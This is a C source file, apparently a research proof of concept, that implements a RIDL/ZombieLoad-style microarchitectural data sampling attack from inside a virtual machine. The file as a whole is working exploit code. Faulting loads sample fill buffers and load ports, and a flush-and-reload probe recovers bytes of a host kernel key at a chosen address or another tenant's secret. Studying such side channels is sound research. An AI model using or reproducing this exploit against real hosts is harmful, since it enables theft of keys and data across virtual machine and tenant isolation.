/*
 * Microarchitectural data sampling from a virtual machine (van Schaik et al., "RIDL"; Schwarz et al.,
 * "ZombieLoad", 2019): neither exit nor entry of a virtual machine clears the buffers through which
 * cache lines pass, or the load ports, so a load inside that faults receives what others left there.
 *
 * A key of the host is used by its kernel whenever a virtual machine exits; its line is then in a fill
 * buffer. Between another tenant's use of its secret and the entry of this machine so many lines come
 * in that its own is hardly ever left. But nothing there loads 16 bytes at once, as that tenant did.
 */
#include "buffers.h"
#include "fault.h"
#include "machine.h"

enum {
	WARMING_EXITS = 3,
	FIRST_LEVEL_PAGES = 16,	/* 64 KiB: twice the first-level caches of affected processors */
};

/* Inside, where there is no memory, and no table that leads to any. */
static const uint8_t *const unmapped = (const uint8_t *)(3ULL << 40);

static struct machine machine;

/* Inside: the address of the secret's byte in the kernel, and what was seen. */
static uint64_t secret;
static int shown;

/* Assembly: loads that fault behind an instruction or none, at %[address]. */
#define FAULT_BEHIND(instruction, samples)                                                           \
	do {                                                                                         \
		register const uint8_t *address_register __asm__("r9") = unmapped + place;           \
		register const uint8_t *probe_register __asm__("r8") = probe;                        \
		register uint64_t known_register __asm__("r10") = known;                             \
		register const uint8_t *elsewhere_register __asm__("r11") = elsewhere;               \
                                                                                                     \
		__asm__ volatile(                                                                    \
			RESUME_AT_9 instruction KEEP_FROM_RETIRING samples RESUMED                   \
			:                                                                            \
			: [address] "r"(address_register), [probe] "r"(probe_register),              \
			  [known] "r"(known_register), [elsewhere] "r"(elsewhere_register)           \
			: "rax", "rbx", "rcx", "rdx", "xmm0", "memory", "cc");                       \
	} while (0)

static void prepare_inside(void)
{
	flush_probe(probe);
	touch(elsewhere);
	touch(elsewhere + PAGE_BYTES);
	memory_fence();
}

/* As in ridl: the secret's line is evicted after its user is warm, so that it comes in anew, and last. */
static void sample_buffers_inside(void)
{
	for (int i = 0; i < WARMING_EXITS; i++)
		exit_to_host();
	displace(secret, FIRST_LEVEL_PAGES);
	prepare_inside();
	FAULT_BEHIND("xor %%eax, %%eax\n\t"
		     "xor %%ecx, %%ecx\n\t"
		     "cpuid\n\t",
		     TWELVE_TIMES(SAMPLE_BUFFER));
	shown = reload_probe(probe);
}

static void sample_ports_inside(void)
{
	FAULT_BEHIND("", FOUR_TIMES(SAMPLE_PORT));
	shown = reload_probe(probe);
}

static int sample(int index)
{
	*IN_MACHINE(&machine, known) = known_before(index);
	if (options.service) {
		*IN_MACHINE(&machine, place) = line_of(place_of_load(index));
		machine_run(&machine, prepare_inside);
		use_secret(place_of_comparison(index));
		machine_run(&machine, sample_ports_inside);
	} else {
		*IN_MACHINE(&machine, place) = place_of_load(index);
		*IN_MACHINE(&machine, secret) = options.address + index;
		machine_run(&machine, sample_buffers_inside);
	}
	return *IN_MACHINE(&machine, shown);
}

int main(int argc, char **argv)
{
	parse_options(argc, argv);
	if (!options.address)
		errx(2, "expected --address");
	if (options.service)
		open_secret();
	calibrate();
	probe = own_probe();
	memset(elsewhere, 1, sizeof(elsewhere));
	machine_create(&machine);
	recover_in_order(sample, 300);
	return 0;
}
